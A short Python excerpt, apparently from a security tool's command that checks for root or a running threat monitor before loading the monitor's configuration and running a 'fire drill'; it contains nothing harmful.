    if os.geteuid() != 0 and not control.is_running(home) and not control.LAUNCHER.exists():
        raise CoiError(
            "the fire drill needs the threat monitor, which needs root: run 'sudo coi "
            "setup' once (or run the drill as root)"
        )
    try:
        config = load_monitor_config(load_settings(Path("/")))
    except (CoiError, ValueError) as exc:
        raise CoiError(f"monitor configuration: {str(exc).splitlines()[0]}") from None
    return Drill(settings, incus, config, home, progress, probes).run()
